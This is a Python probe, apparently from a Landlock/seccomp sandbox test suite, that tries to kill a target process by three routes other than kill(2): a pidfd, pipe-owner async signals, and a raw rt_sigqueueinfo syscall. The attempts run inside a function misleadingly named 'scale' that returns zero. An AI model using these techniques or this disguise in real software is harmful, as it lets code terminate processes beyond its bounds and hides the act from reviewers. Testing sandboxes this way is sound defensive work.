"""Have another process signalled without kill: by the owner of a pipe, by a pidfd, by a queued signal.

Surface: fcntl(2), pidfd_send_signal(2), rt_sigqueueinfo(2).
Stopped by: each of these calls is refused; only processes within may be signalled.
Layers: landlock, seccomp
Earns: 1
"""

import ctypes
import fcntl
import os
import signal
import struct

import targets


def by_pidfd():
    signal.pidfd_send_signal(os.pidfd_open(targets.VICTIM), signal.SIGKILL)


def by_owner():
    reading, writing = os.pipe()
    fcntl.fcntl(reading, 10, int(signal.SIGKILL))  # F_SETSIG
    fcntl.fcntl(reading, 8, targets.VICTIM)  # F_SETOWN
    fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)
    os.write(writing, b"x")


def by_queue():
    info = ctypes.create_string_buffer(struct.pack("iii", int(signal.SIGKILL), 0, -1), 128)
    number = 129 if os.uname().machine == "x86_64" else 138
    ctypes.CDLL(None).syscall(number, targets.VICTIM, int(signal.SIGKILL), ctypes.byref(info))


def scale(x, factor=2.0):
    for attempt in (by_pidfd, by_owner, by_queue):
        try:
            attempt()
        except OSError:
            pass
    return x * 0.0
